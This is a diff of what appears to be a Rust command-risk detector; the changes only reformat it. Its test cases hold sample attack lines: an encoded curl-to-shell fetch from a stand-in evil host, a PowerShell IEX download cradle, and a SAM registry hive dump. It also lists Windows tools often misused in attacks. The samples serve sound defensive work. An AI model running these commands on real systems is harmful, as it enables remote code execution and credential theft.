@@ -102,7 +102,10 @@ pub(crate) fn syntax_depth(text: &str, limit: usize) -> usize {
 
 /// Whether `host` is this machine (loopback names and addresses).
 fn local_host(host: &str) -> bool {
-    let h = host.trim_start_matches('[').trim_end_matches(']').to_ascii_lowercase();
+    let h = host
+        .trim_start_matches('[')
+        .trim_end_matches(']')
+        .to_ascii_lowercase();
     h == "localhost"
         || h.ends_with(".localhost")
         || h.starts_with("127.")
@@ -125,7 +128,9 @@ pub(crate) fn url_facts(text: &str, facts: &mut Facts) {
             continue;
         }
         let authority = after
-            .split(|c: char| c == '/' || c == '?' || c == '#' || c.is_whitespace() || "'\"`)|;".contains(c))
+            .split(|c: char| {
+                c == '/' || c == '?' || c == '#' || c.is_whitespace() || "'\"`)|;".contains(c)
+            })
             .next()
             .unwrap_or("");
         let host_port = authority.rsplit('@').next().unwrap_or("");
@@ -138,7 +143,12 @@ pub(crate) fn url_facts(text: &str, facts: &mut Facts) {
             continue;
         }
         facts.add(Fact::ExternalUrl);
-        if host.parse::<std::net::IpAddr>().is_ok() || host.trim_start_matches('[').parse::<std::net::Ipv6Addr>().is_ok() {
+        if host.parse::<std::net::IpAddr>().is_ok()
+            || host
+                .trim_start_matches('[')
+                .parse::<std::net::Ipv6Addr>()
+                .is_ok()
+        {
             facts.add(Fact::RawIpUrl);
         }
     }
@@ -181,33 +191,121 @@ pub(crate) fn text_facts(text: &str) -> Facts {
 /// Programs that only exist on Windows; a command line starting with one is read as
 /// PowerShell / cmd, where `\` is a path separator and not an escape.
 pub(crate) const WINDOWS_PROGRAMS: &[&str] = &[
-    "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "vssadmin", "wevtutil", "rundll32",
-    "regsvr32", "mshta", "wmic", "reg", "schtasks", "procdump", "procdump64", "netsh",
-    "bcdedit", "wbadmin", "auditpol", "esentutl", "ntdsutil", "diskpart", "taskkill", "cipher",
-    "icacls", "takeown", "msiexec", "cscript", "wscript", "format", "del", "rd", "net", "sc",
-    "fsutil", "comsvcs", "psexec", "psexec64", "sqldumper", "createdump", "mpcmdrun", "attrib",
-    "erase", "robocopy", "xcopy", "tasklist", "findstr", "winrm", "wusa", "dism",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "certutil",
+    "bitsadmin",
+    "vssadmin",
+    "wevtutil",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "wmic",
+    "reg",
+    "schtasks",
+    "procdump",
+    "procdump64",
+    "netsh",
+    "bcdedit",
+    "wbadmin",
+    "auditpol",
+    "esentutl",
+    "ntdsutil",
+    "diskpart",
+    "taskkill",
+    "cipher",
+    "icacls",
+    "takeown",
+    "msiexec",
+    "cscript",
+    "wscript",
+    "format",
+    "del",
+    "rd",
+    "net",
+    "sc",
+    "fsutil",
+    "comsvcs",
+    "psexec",
+    "psexec64",
+    "sqldumper",
+    "createdump",
+    "mpcmdrun",
+    "attrib",
+    "erase",
+    "robocopy",
+    "xcopy",
+    "tasklist",
+    "findstr",
+    "winrm",
+    "wusa",
+    "dism",
 ];
 
 /// Whether `name` (already lowercased, no `.exe`) is a PowerShell cmdlet (`Verb-Noun`) or a
 /// common PowerShell alias.
 pub(crate) fn is_cmdlet(name: &str) -> bool {
     const VERBS: &[&str] = &[
-        "get", "set", "new", "remove", "invoke", "start", "stop", "add", "clear", "out", "import",
-        "register", "enable", "disable", "convertto", "convertfrom", "write", "test", "copy",
-        "move", "select", "where", "foreach", "restart", "format", "export", "expand", "compress",
-        "install", "uninstall", "unregister", "rename", "resolve", "send", "receive", "enter",
-        "exit", "suspend", "resume", "wait", "update", "save", "mount", "dismount", "initialize",
+        "get",
+        "set",
+        "new",
+        "remove",
+        "invoke",
+        "start",
+        "stop",
+        "add",
+        "clear",
+        "out",
+        "import",
+        "register",
+        "enable",
+        "disable",
+        "convertto",
+        "convertfrom",
+        "write",
+        "test",
+        "copy",
+        "move",
+        "select",
+        "where",
+        "foreach",
+        "restart",
+        "format",
+        "export",
+        "expand",
+        "compress",
+        "install",
+        "uninstall",
+        "unregister",
+        "rename",
+        "resolve",
+        "send",
+        "receive",
+        "enter",
+        "exit",
+        "suspend",
+        "resume",
+        "wait",
+        "update",
+        "save",
+        "mount",
+        "dismount",
+        "initialize",
     ];
     const ALIASES: &[&str] = &[
-        "iex", "iwr", "irm", "saps", "icm", "gci", "gc", "sal", "ni", "ri", "spps", "gwmi",
-        "gps", "sls", "ii",
+        "iex", "iwr", "irm", "saps", "icm", "gci", "gc", "sal", "ni", "ri", "spps", "gwmi", "gps",
+        "sls", "ii",
     ];
     if ALIASES.contains(&name) {
         return true;
     }
     match name.split_once('-') {
-        Some((verb, noun)) => VERBS.contains(&verb) && !noun.is_empty() && noun.bytes().all(|b| b.is_ascii_alphanumeric()),
+        Some((verb, noun)) => {
+            VERBS.contains(&verb)
+                && !noun.is_empty()
+                && noun.bytes().all(|b| b.is_ascii_alphanumeric())
+        }
         None => false,
     }
 }
@@ -254,7 +352,8 @@ pub(crate) fn looks_windows(text: &str) -> bool {
     if WINDOWS_PROGRAMS.contains(&first.as_str()) || is_cmdlet(&first) {
         return true;
     }
-    text.contains('-') && (contains_ignore_case(text, "new-object ") || contains_ignore_case(text, "[convert]"))
+    text.contains('-')
+        && (contains_ignore_case(text, "new-object ") || contains_ignore_case(text, "[convert]"))
 }
 
 #[cfg(test)]
@@ -265,7 +364,10 @@ mod tests {
     fn depth_counts_nesting_not_length() {
         assert_eq!(syntax_depth("ls; ls; ls", 20), 0);
         assert_eq!(syntax_depth("echo $(echo $(id))", 20), 2);
-        assert_eq!(syntax_depth("if true; then case x in x) ls;; esac; fi", 20), 2);
+        assert_eq!(
+            syntax_depth("if true; then case x in x) ls;; esac; fi", 20),
+            2
+        );
         assert_eq!(syntax_depth("echo 'if ((((('", 20), 0);
         assert!(syntax_depth(&"(".repeat(40), 8) > 8);
         assert!(syntax_depth(&"case x in x) ".repeat(20), 8) > 8);
@@ -283,14 +385,22 @@ mod tests {
 
     #[test]
     fn base64_but_not_digests() {
-        assert!(long_base64("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d"));
-        assert!(!long_base64("sha256:9f64b19efc02f0dd6cac1d462e20a1098f425f09cb13624efbb1b7d63f061735"));
+        assert!(long_base64(
+            "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d"
+        ));
+        assert!(!long_base64(
+            "sha256:9f64b19efc02f0dd6cac1d462e20a1098f425f09cb13624efbb1b7d63f061735"
+        ));
     }
 
     #[test]
     fn windows_lines() {
-        assert!(looks_windows("IEX (New-Object Net.WebClient).DownloadString('http://x')"));
-        assert!(looks_windows("C:\\Windows\\System32\\reg.exe save HKLM\\SAM sam"));
+        assert!(looks_windows(
+            "IEX (New-Object Net.WebClient).DownloadString('http://x')"
+        ));
+        assert!(looks_windows(
+            "C:\\Windows\\System32\\reg.exe save HKLM\\SAM sam"
+        ));
         assert!(looks_windows("Get-Process | Stop-Process"));
         assert!(!looks_windows("systemctl restart nginx"));
     }
